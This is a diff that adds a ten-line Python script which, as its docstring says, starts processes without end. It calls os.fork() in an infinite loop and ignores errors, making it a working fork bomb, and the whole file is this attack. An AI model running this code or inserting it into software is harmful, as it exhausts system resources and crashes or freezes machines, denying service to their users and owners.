@@ -1,0 +1,10 @@
+# stock: never
+"""Start processes without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
